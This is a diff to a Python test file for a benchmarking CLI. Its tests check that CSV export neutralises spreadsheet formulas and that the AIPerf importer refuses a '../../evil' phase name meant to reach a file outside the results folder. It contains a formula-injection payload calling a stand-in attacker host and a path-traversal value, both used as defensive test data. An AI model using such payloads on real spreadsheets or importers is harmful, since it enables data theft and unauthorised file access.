@@ -64,3 +64,25 @@ def test_csv_cells_are_never_formulas_and_error_texts_are_redacted(tmp_path):
     assert errors[0] == "'" + '=HYPERLINK("http://evil.example/?"&A1,"x")'
     # numbers stay numbers: a negative value is data, not a formula
     assert all(r["ttft_s"] == "" or float(r["ttft_s"]) >= 0 for r in rows)
+
+
+def test_an_aiperf_phase_name_never_opens_a_path_outside_the_folder(tmp_path):
+    """A phase's name comes from the file: `../../evil` must not make the importer read
+    `phases/../../evil/profile_export_aiperf.json`, a file outside the results folder."""
+    run = _run(tmp_path)
+    art = tmp_path / "art"
+    assert cli(["export", str(run), "--format", "aiperf", "--out", str(art)]) == 0
+    folder = next(p for p in art.iterdir())
+    evil = "../../evil"
+    summary = folder / "profile_export_aiperf.json"
+    summary.write_text(summary.read_text().replace('"profiling"', json.dumps(evil)))
+    records = folder / "profile_export.jsonl"
+    records.write_text(records.read_text().replace('"profiling"', json.dumps(evil)))
+    (folder / "phases").mkdir()
+    planted = folder / "phases" / evil / "profile_export_aiperf.json"
+    planted.parent.mkdir(parents=True)
+    planted.write_text(json.dumps({"request_count": {"unit": "requests", "avg": 999.0}}))
+    assert planted.resolve().is_relative_to(art) and not planted.resolve().is_relative_to(folder)
+    out = tmp_path / "imported"
+    assert cli(["import", "aiperf", str(folder), "--out", str(out)]) == 0
+    assert "999" not in (out / "manifest.json").read_text()
